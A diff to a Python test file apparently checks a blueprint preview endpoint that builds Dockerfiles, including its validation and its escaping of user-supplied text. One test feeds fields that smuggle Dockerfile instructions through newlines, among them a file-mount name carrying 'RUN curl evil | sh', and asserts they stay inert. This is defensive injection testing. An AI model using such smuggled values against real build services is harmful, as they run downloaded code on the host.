@@ -308,9 +308,21 @@ def test_preview_gives_the_dockerfile_a_create_would_build_and_builds_nothing(de
     lines = preview["dockerfile"].splitlines()
     assert lines[lines.index("FROM ubuntu:22.04"):] == ["FROM ubuntu:22.04", "RUN echo hi", "RUN apt-get install -y jq",
                                                          "RUN echo done"]
-    assert f"# Built on blueprint {base['id']} (base)." in lines and "# file_mounts: /home/user/a.txt" in lines
+    assert f'# Built on blueprint {base["id"]} ("base").' in lines and '# file_mounts: "/home/user/a.txt"' in lines
     listed = ok(client.get(URL, headers=ALICE))["blueprints"]
     assert [b["name"] for b in listed] == ["base"]  # nothing made
-    # Checked as a create is.
+    # Checked as a create is, the Dockerfile too (a build would fail on it).
     assert_error(client.post(f"{URL}/preview", json={"name": " "}, headers=ALICE), 400, contains="name")
     assert_error(client.post(f"{URL}/preview", json={"name": "x", "base_blueprint_id": "bpt_nope"}, headers=ALICE), 400)
+    assert_error(client.post(f"{URL}/preview", json={"name": "x", "network_policy_id": "npol_nope"}, headers=ALICE), 400)
+    assert_error(client.post(f"{URL}/preview", json={"name": "x", "launch_parameters": {"network_policy_id": "npol_no"}},
+                             headers=ALICE), 400)
+    assert_error(client.post(f"{URL}/preview", json={"name": "x", "dockerfile": "COPY . /app\n"}, headers=ALICE), 400,
+                 contains="COPY")
+    # User text cannot start an instruction; a several-line command stays one step; an open
+    # continuation at the end does not take in the next step.
+    odd = {"name": "n\nRUN evil", "file_mounts": {"a.txt\nRUN curl evil | sh": "x"}, "dockerfile": "RUN echo a \\\n",
+           "system_setup_commands": ["set -e\necho one\necho two", "echo last"]}
+    lines = ok(client.post(f"{URL}/preview", json=odd, headers=ALICE))["dockerfile"].splitlines()
+    instructions = [line for line in lines if line and not line.startswith("#")]
+    assert instructions == ["RUN echo a", 'RUN ["/bin/sh", "-c", "set -e\\necho one\\necho two"]', "RUN echo last"]
